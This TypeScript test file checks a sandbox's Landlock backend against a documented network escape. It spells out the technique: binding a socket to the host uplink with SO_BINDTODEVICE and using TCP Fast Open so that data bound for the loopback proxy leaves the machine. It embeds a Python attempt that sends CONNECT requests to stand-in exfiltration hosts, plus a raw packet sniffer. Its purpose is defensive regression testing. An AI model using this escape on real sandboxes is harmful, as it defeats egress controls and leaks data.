// The Landlock backend keeps the host's network stack, and both of its checks on a connect are
// about the destination: Landlock's rule names the proxy's port, the supervisor the address
// 127.0.0.1. Neither says which interface the packets leave by. An unprivileged socket may bind
// itself to a device once (SO_BINDTODEVICE / SO_BINDTOIFINDEX, no capability needed since Linux
// 5.7); a connect to 127.0.0.1 from a socket bound to the host's uplink is then routed out of
// that uplink (its default route), not to loopback. With TCP Fast Open's connect flags (both
// unprivileged) the first write rides in that SYN: the command's bytes leave the machine.
// Found by this attack round (Linux 6.18): the SYN with the payload was seen leaving eth0 for
// the gateway. The host side sniffs the uplink (a packet socket, root); what must be seen is
// fixed here: EPERM for both options, nothing for 127/8 on the uplink, and the proxy, reached
// on loopback as the supervisor meant, refusing the requests the payloads carry. Bound after
// the connect, the connection's later segments were routed again and dropped (source 127.0.0.1
// may not leave by the uplink): nothing left, but the request never reached the proxy either.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type SubprocessSandbox } from '../src/index.ts';
import { tableLookup } from './support/egress-servers.ts';
import { useLandlockBackend } from './support/fake-bwrap.ts';
import { python } from './support/helpers.ts';
import { uplink, watchUplink } from './support/uplink-watch.ts';

const device = uplink();

// What leaves DEVICE for 127.0.0.0/8 (host side, root) until its stdin closes: `S` and the
// payload for a TCP SYN, `.` and the payload for another segment (CRLF as `|`, one line), `A`
// for an ARP request asking for such an address.
const sniffer = String.raw`
import select, socket, sys
device = sys.argv[1]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind((device, 0))
print('ready', flush=True)
seen = []
while True:
    ready = select.select([s, sys.stdin], [], [])[0]
    if sys.stdin in ready and sys.stdin.read(1) == '': break
    if s not in ready: continue
    f, addr = s.recvfrom(65535)
    kind, ip = f[12:14], f[14:]
    if kind == b'\x08\x06' and len(ip) >= 28 and ip[24] == 127: seen.append('A'); continue
    if kind != b'\x08\x00' or len(ip) < 20 or ip[16] != 127 or ip[9] != 6: continue
    tcp = ip[(ip[0] & 15) * 4:]
    seen.append(('S' if tcp[13] & 2 else '.') + tcp[(tcp[12] >> 4) * 4:].replace(b'\r\n', b'|').decode('latin1'))
print(' '.join(sorted(set(seen))), flush=True)
`;

// The command: both device options on sockets of their own, then the Fast Open connect to the
// proxy (as the supervisor allows) from the socket bound to the uplink, its first write a
// request whose host name is the payload, and the first line of whatever answers.
const command = String.raw`
import os, socket, sys
device, index, port = sys.argv[1], int(sys.argv[2]), int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
def attempt(name, action):
    try: r = action(); print(name, 'ok' if r is None else r, flush=True)
    except socket.timeout: print(name, 'timeout', flush=True)
    except OSError as e: print(name, e.errno, flush=True)
s, t = socket.socket(), socket.socket()
attempt('bindtodevice', lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode()))
attempt('bindtoifindex', lambda: t.setsockopt(socket.SOL_SOCKET, 62, index))
s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE: data in the SYN
s.settimeout(3)
attempt('connect', lambda: s.connect(('127.0.0.1', port)))
attempt('send', lambda: s.send(b'CONNECT exfil-marker.test:443 HTTP/1.1\r\n\r\n') and None)
attempt('answer', lambda: s.recv(200).split(b'\r\n')[0].decode() or 'closed')
# A connection the supervisor made to the proxy, then bound: its later segments are routed again.
c = socket.create_connection(('127.0.0.1', port), 3)
attempt('bindtodevice-connected', lambda: c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode()))
attempt('send-connected', lambda: c.send(b'CONNECT exfil-connected.test:443 HTTP/1.1\r\n\r\n') and None)
attempt('answer-connected', lambda: c.recv(200).split(b'\r\n')[0].decode() or 'closed')
`;

describe('the Landlock backend: a socket bound to the uplink', () => {
  let sandbox: SubprocessSandbox;
  // bubblewrap refused, as in a container: the Landlock backend runs the command.
  useLandlockBackend();
  beforeAll(() => {
    sandbox = createSandbox(
      { network: { allow: ['api.test'], allowPrivate: true }, timeoutMs: 30_000 },
      { lookup: tableLookup({ 'api.test': '127.0.0.1' }) },
    );
  });
  afterAll(async () => {
    await sandbox?.close();
  });

  it('SO_BINDTODEVICE and SO_BINDTOIFINDEX are refused; nothing for 127/8 leaves the uplink (broke: fixed in filter.ts)', async () => {
    // The test's own needs, asserted rather than skipped: a machine with an uplink (CI installs
    // over one) and root, for the packet socket that watches it.
    expect({ uplink: device !== undefined, root: process.getuid?.() === 0 }).toEqual({
      uplink: true,
      root: true,
    });
    const watch = await watchUplink(sniffer, device!.name);
    const result = await sandbox.run(python, ['-c', command, device!.name, String(device!.index)]);
    const sniffed = await watch.seen();
    expect(result.stderr).toBe('');
    // One comparison, so that a failure shows what the command saw and what left together.
    expect({ told: result.stdout, sniffed, network: result.network }).toEqual({
      told: [
        'bindtodevice 1', // EPERM: seccomp
        'bindtoifindex 1',
        'connect ok', // a Fast Open connect is deferred to the first write
        'send ok',
        'answer HTTP/1.1 403 Forbidden', // the proxy, on loopback, read the request
        'bindtodevice-connected 1',
        'send-connected ok',
        'answer-connected HTTP/1.1 403 Forbidden',
        '',
      ].join('\n'),
      sniffed: '',
      network: {
        allowed: [],
        denied: ['exfil-marker.test', 'exfil-connected.test'].map((host) => ({
          host,
          port: 443,
          reason: 'not-allowed',
          detail: `${host}:443 matches no allow entry`,
        })),
      },
    });
  });
});
